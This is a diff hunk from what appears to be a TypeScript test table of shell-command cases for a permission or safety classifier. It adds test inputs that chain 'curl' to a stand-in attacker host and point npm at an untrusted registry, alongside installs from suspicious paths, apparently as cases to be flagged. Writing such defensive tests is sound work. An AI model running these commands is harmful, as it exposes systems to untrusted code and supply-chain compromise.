@@ -1207,11 +1207,11 @@ export const DECISIONS: readonly DecisionCase[] = [
     }),
   ),
   ...[
-    'npm install && curl x',
+    'npm install && curl https://evil.example',
     'FOO=1 npm ci',
     'npm install ../evil',
     'pip install -r ../r.txt',
-    'npm install --registry=http://x',
+    'npm install --registry=https://evil.example',
     'npm install evil/x',
     'make install',
   ].map(
